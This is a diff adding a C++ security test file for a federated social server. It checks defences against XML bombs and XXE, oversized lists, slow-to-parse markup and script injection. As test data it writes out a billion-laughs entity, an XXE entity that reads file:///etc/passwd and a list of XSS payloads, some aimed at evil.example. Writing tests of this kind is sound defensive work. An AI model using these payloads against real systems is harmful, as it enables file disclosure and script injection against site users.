@@ -1,0 +1,324 @@
+// Attacks 28, 29, 33 and 34: text that is meant for a parser of ours, or for a reader's browser.
+
+#include <algorithm>
+#include <cctype>
+#include <chrono>
+#include <utility>
+
+#include "federation/post.h"
+#include "tests/attacks/attack.h"
+
+namespace hallway::test {
+namespace {
+
+using testing::IsEmpty;
+using testing::Le;
+
+constexpr std::string_view kAcceptHtml = "Accept: text/html\r\n";
+
+std::string repeated(std::string_view piece, size_t times) {
+  std::string all;
+  for (size_t i = 0; i < times; ++i) all += piece;
+  return all;
+}
+
+class MarkupAttack : public Attack {
+ protected:
+  void SetUp() override {
+    Attack::SetUp();
+    victim_.meet(mallory_);
+    const auto post = victim_.node().act_as(*victim_.find_actor(victim_.alice()), [](Local& local) {
+      return publish(local, NewPost{.text = "What do you think?"});
+    });
+    ASSERT_TRUE(post.ok());
+    question_ = post->iri.text();
+    page_ = post->url.target();
+    evil_.forget();
+  }
+  // Mallory's answer to Alice, which stands on the page of her post.
+  [[nodiscard]] Json answer(const std::string& id, const Json& more) const {
+    auto note =
+        note_by(mallory_, id, {{"inReplyTo", question_}, {"cc", Json::array({victim_.alice()})}});
+    note.update(more);
+    return note;
+  }
+  [[nodiscard]] std::string page() const {
+    const auto shown = victim_.get(page_, kAcceptHtml);
+    EXPECT_EQ(shown.status, 200);
+    return shown.body;
+  }
+
+  const Stranger mallory_ = evil_.put_person("mallory");
+  std::string question_, page_;
+};
+
+using Attack28 = MarkupAttack;
+using Attack29 = MarkupAttack;
+using Attack33 = MarkupAttack;
+using Attack34 = MarkupAttack;
+
+// --- 28: XML that unpacks, or that asks somebody
+
+TEST_F(Attack28, HostMetaNeitherUnpacksNorFetches) {
+  std::string laughs = "<!DOCTYPE XRD [<!ENTITY l0 \"lol\">";
+  for (int i = 1; i < 12; ++i) {
+    const auto inner = "&l" + std::to_string(i - 1) + ";";
+    laughs += "<!ENTITY l" + std::to_string(i) + " \"" + repeated(inner, 10) + "\">";
+  }
+  laughs += "]>";
+  const auto link = "<Link rel=\"lrdd\" template=\"" + evil_.at("/finger?q={uri}") + "\"/>";
+  const std::string documents[] = {
+      laughs + "<XRD><Subject>&l11;</Subject>" + link + "</XRD>",
+      "<!DOCTYPE XRD [<!ENTITY x SYSTEM \"" + good_.at("/x") + "\">]><XRD>&x;" + link + "</XRD>",
+      "<!DOCTYPE XRD SYSTEM \"" + good_.at("/dtd") + "\"><XRD>" + link + "</XRD>",
+      "<!DOCTYPE XRD [<!ENTITY % x SYSTEM \"" + good_.at("/x") + "\">%x;]><XRD>" + link + "</XRD>",
+      "<!DOCTYPE XRD [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><XRD><Link rel=\"lrdd\" "
+      "template=\"" +
+          evil_.at("/finger?q={uri}&amp;s=&x;") + "\"/></XRD>",
+      "<XRD xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"" + good_.at("/x") +
+          "\"/>" + link + "</XRD>",
+      repeated("<XRD>", 50'000) + link,
+      "<XRD>" + repeated("<!--", 50'000) + link};
+  for (const auto& document : documents) {
+    SCOPED_TRACE(document.substr(0, 120));
+    evil_.put("/.well-known/host-meta",
+              Response{.headers = {{"Content-Type", "application/xrd+xml"}}, .body = document});
+    const auto before = victim_.stored();
+    EXPECT_TRUE(victim_.search("@nobody@" + evil_.domain()).contains("accounts"));
+    EXPECT_THAT(victim_.changes(before), IsEmpty());
+    for (const auto& request : evil_.seen())
+      EXPECT_EQ(request.target.find("root:"), std::string::npos);
+  }
+  EXPECT_EQ(good_.asked(), 0U);
+}
+
+// --- 29: lists and names without end
+
+TEST_F(Attack29, ListsOfAPostAreCapped) {
+  Json tags = Json::array(), files = Json::array(), people = Json::array({victim_.alice()});
+  for (int i = 0; i < 3'000; ++i) {
+    const auto number = std::to_string(i);
+    tags.push_back({{"type", "Hashtag"}, {"name", "#tag" + number}});
+    tags.push_back(
+        {{"type", "Mention"}, {"href", good_.at("/u/" + number)}, {"name", "@u" + number}});
+    files.push_back({{"type", "Image"}, {"url", evil_.at("/" + number + ".png")}});
+    people.push_back(good_.at("/u/" + number));
+  }
+  const auto id = evil_.at("/notes/1");
+  taken(victim_.post(
+      create_by(mallory_, answer(id, {{"tag", tags}, {"attachment", files}, {"cc", people}})),
+      mallory_));
+  const auto post = *victim_.find_post(id);
+  EXPECT_THAT(post.tags.size(), Le(100U));
+  EXPECT_THAT(post.mentions.size(), Le(100U));
+  EXPECT_THAT(post.attachments.size(), Le(32U));
+  ASSERT_TRUE(victim_.settle());
+  EXPECT_THAT(good_.asked(), Le(1U)) << "whom a stranger names is not looked up in bulk";
+}
+
+TEST_F(Attack29, ListsAndNamesOfAnActorAreCapped) {
+  const auto path = std::string("/users/hydra");
+  auto document = person_json(evil_.at(path), "hydra", test_key(KeyType::rsa, 3).public_key());
+  Json fields = Json::array(), aliases = Json::array();
+  for (int i = 0; i < 3'000; ++i) {
+    const auto number = std::to_string(i);
+    fields.push_back({{"type", "PropertyValue"}, {"name", "f" + number}, {"value", "v"}});
+    aliases.push_back(good_.at("/u/" + number));
+  }
+  document["attachment"] = fields;
+  document["alsoKnownAs"] = aliases;
+  document["name"] = std::string(100'000, 'n');
+  document["summary"] = "<p>" + std::string(200'000, 's') + "</p>";
+  evil_.put(path, document);
+  ASSERT_TRUE(victim_.node().resolver().resolve_actor(iri(evil_.at(path))).ok());
+  const auto known = victim_.find_actor(evil_.at(path));
+  ASSERT_TRUE(known.has_value());
+  EXPECT_THAT(known->fields.size(), Le(64U));
+  EXPECT_THAT(known->also_known_as.size(), Le(256U));
+  EXPECT_THAT(known->display_name.size(), Le(2'048U));
+  EXPECT_THAT(known->summary.size(), Le(100'000U));
+  EXPECT_EQ(good_.asked(), 0U);
+
+  document["preferredUsername"] = std::string(5'000, 'u');
+  document["id"] = evil_.at("/users/long");
+  evil_.put("/users/long", document);
+  EXPECT_FALSE(victim_.node().resolver().resolve_actor(iri(evil_.at("/users/long"))).ok());
+}
+
+// --- 33: HTML that costs time
+
+TEST_F(Attack33, NoMarkupTakesLong) {
+  const std::string pieces[] = {
+      "<div>",  "<a href=\"", "<",           "<!--",        "&",
+      "&#",     "</p>",       "<p a=b ",     "<![CDATA[",   "<blockquote><ul>",
+      "<a><a>", "\"'`",       "<svg><math>", "<table><tr>", "<script><!--"};
+  const size_t much = 200'000;
+  int number = 0;
+  for (const auto& piece : pieces) {
+    SCOPED_TRACE(piece);
+    const auto id = evil_.at("/notes/" + std::to_string(++number));
+    const auto body = repeated(piece, much / piece.size());
+    const auto begun = std::chrono::steady_clock::now();
+    const auto status =
+        victim_.send(victim_.post(create_by(mallory_, answer(id, {{"content", body}})), mallory_))
+            .status;
+    EXPECT_THAT(std::chrono::steady_clock::now() - begun, Le(std::chrono::seconds(5)));
+    EXPECT_TRUE(status == 202 || status == 400 || status == 413) << status;
+  }
+}
+
+// --- 34: script, wherever text stands
+
+const std::vector<std::string>& scripts() {
+  static const std::vector<std::string> all = {
+      "<script>alert(1)</script>",
+      "<img src=x onerror=alert(1)>",
+      "\"><svg/onload=alert(1)>",
+      "'><iframe srcdoc='<script>alert(1)</script>'>",
+      "</title><script>alert(1)</script>",
+      "</textarea><style>*{display:none}</style>",
+      "javascript:alert(1)",
+      "<a href=\"java\tscript:alert(1)\">x</a>",
+      "<a href=\"&#106;avascript:alert(1)\">x</a>",
+      "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
+      "<p style=\"background:url(javascript:alert(1))\">x</p>",
+      "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+      "<math><mtext></p><script>alert(1)</script>",
+      "<form action=//evil.example><input type=submit>",
+      "<base href=//evil.example/>",
+      "<meta http-equiv=refresh content=0;url=//evil.example>",
+      "<a href=\"https://a.example\" onclick=\"alert(1)\" id=\"main\">x</a>"};
+  return all;
+}
+
+// The attributes of a start tag, as NAME=VALUE in lower case, from behind its name to its end.
+std::vector<std::string> attributes_at(std::string_view html, size_t at) {
+  std::vector<std::string> all;
+  std::string one;
+  char quote = 0;
+  for (; at < html.size() && (quote || html[at] != '>'); ++at) {
+    const char c = static_cast<char>(std::tolower(static_cast<unsigned char>(html[at])));
+    if (quote ? c == quote : c == '"' || c == '\'') {
+      quote = quote ? '\0' : c;
+    } else if (!quote && (c == ' ' || c == '/' || c == '\n')) {
+      all.push_back(std::exchange(one, {}));
+    } else {
+      one += c;
+    }
+  }
+  all.push_back(one);
+  return all;
+}
+
+bool is_active(const std::string& attribute) {
+  const auto name = attribute.substr(0, attribute.find('='));
+  const auto value = attribute.substr(std::min(attribute.size(), name.size() + 1));
+  if (name == "alt" || name == "title") return false;  // text
+  return name.starts_with("on") || name == "style" || name == "srcdoc" ||
+         value.starts_with("javascript:") || value.starts_with("data:");
+}
+
+// What a browser would act upon in `html`: elements and attributes that have no place in text from
+// elsewhere.
+std::vector<std::string> active_parts(const std::string& html) {
+  static const std::vector<std::string> bad = {"script", "iframe", "object", "embed", "base", "svg",
+                                               "math",   "form",   "input",  "style", "meta"};
+  std::vector<std::string> found;
+  for (auto at = html.find('<'); at != std::string::npos; at = html.find('<', at + 1)) {
+    const auto end = html.find_first_of(" />\n", at);
+    const auto name = html.substr(at + 1, end == std::string::npos ? end : end - at - 1);
+    if (name.empty() || end == std::string::npos) continue;
+    if (std::ranges::find(bad, name) != bad.end() ||
+        std::ranges::any_of(attributes_at(html, end), is_active)) {
+      found.push_back(html.substr(at, html.find('>', at) - at + 1));
+    }
+  }
+  return found;
+}
+
+// Beyond what the page had before.
+std::vector<std::string> added_to(const std::vector<std::string>& usual, const std::string& html) {
+  auto parts = active_parts(html);
+  std::erase_if(parts, [&](const std::string& part) {
+    return std::ranges::find(usual, part) != usual.end();
+  });
+  return parts;
+}
+
+// The witness of the tests below sees what it is there for.
+TEST_F(Attack34, WhatABrowserActsUponIsFound) {
+  for (const auto* html :
+       {"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
+        "<a href=\"javascript:alert(1)\">x</a>", "<a href=\"https://a.example\" onclick=\"x\">",
+        "<iframe srcdoc='x'>", "<img alt=\"a > b\" onerror='x'>", "<base href=//evil.example/>",
+        "<p style=\"x\">"}) {
+    EXPECT_THAT(active_parts(html), testing::SizeIs(1)) << html;
+  }
+  EXPECT_THAT(active_parts("<p>&lt;script&gt; <a href=\"https://a.example\">online</a></p>"),
+              IsEmpty());
+  EXPECT_THAT(active_parts("<img src=\"/a\" alt=\"&lt;img onerror=x> onload=x\">"), IsEmpty());
+}
+
+TEST_F(Attack34, NoPartOfAPostBringsScriptOntoThePage) {
+  const auto usual = active_parts(page());
+  int number = 0;
+  for (const auto& script : scripts()) {
+    SCOPED_TRACE(script);
+    const auto id = evil_.at("/notes/" + std::to_string(++number));
+    const Json more = {
+        {"content", "<p>Look: " + script + "</p>"},
+        {"name", script},
+        {"summary", script},
+        {"url", script},
+        {"attachment", Json::array({{{"type", "Image"}, {"url", script}, {"name", script}},
+                                    {{"type", "Document"},
+                                     {"mediaType", "image/png"},
+                                     {"url", evil_.at("/a.png")},
+                                     {"name", script}}})},
+        {"tag", Json::array({{{"type", "Hashtag"}, {"name", "#" + script}, {"href", script}},
+                             {{"type", "Mention"}, {"name", script}, {"href", victim_.alice()}}})}};
+    taken(victim_.post(create_by(mallory_, answer(id, more)), mallory_));
+    const auto html = page();
+    EXPECT_EQ(html.find("href=\"javascript"), std::string::npos);
+    EXPECT_THAT(added_to(usual, html), IsEmpty());
+  }
+}
+
+TEST_F(Attack34, NoPartOfAnActorBringsScriptOntoThePage) {
+  const auto usual = active_parts(page());
+  int number = 0;
+  for (const auto& script : scripts()) {
+    SCOPED_TRACE(script);
+    const auto path = "/users/m" + std::to_string(++number);
+    const auto& key = test_key(KeyType::rsa, 4);
+    auto document = person_json(evil_.at(path), "m" + std::to_string(number), key.public_key());
+    document["name"] = script;
+    document["summary"] = script;
+    document["url"] = script;
+    document["icon"] = {{"type", "Image"}, {"url", script}};
+    document["attachment"] =
+        Json::array({{{"type", "PropertyValue"}, {"name", script}, {"value", script}}});
+    evil_.put(path, document);
+    const Stranger stranger{evil_.at(path), {key_id_of(evil_.at(path)), key}};
+    const auto note = note_by(stranger, evil_.at("/by" + path),
+                              {{"inReplyTo", question_}, {"cc", Json::array({victim_.alice()})}});
+    taken(victim_.post(create_by(stranger, note), stranger));
+    const auto known = *victim_.find_actor(stranger.iri);
+    EXPECT_THAT(active_parts(known.summary), IsEmpty());
+    for (const auto& field : known.fields) EXPECT_THAT(active_parts(field.value), IsEmpty());
+    EXPECT_THAT(added_to(usual, page()), IsEmpty());
+    EXPECT_EQ(page().find("href=\"javascript"), std::string::npos);
+  }
+}
+
+// Even if something came through: the page's policy runs no script at all.
+TEST_F(Attack34, ThePagesPolicyRunsNoScript) {
+  const auto shown = victim_.get(page_, kAcceptHtml);
+  ASSERT_TRUE(shown.headers.contains("content-security-policy"));
+  const auto& policy = shown.headers.at("content-security-policy");
+  EXPECT_NE(policy.find("default-src 'none'"), std::string::npos) << policy;
+  EXPECT_EQ(policy.find("unsafe"), std::string::npos) << policy;
+}
+
+}  // namespace
+}  // namespace hallway::test
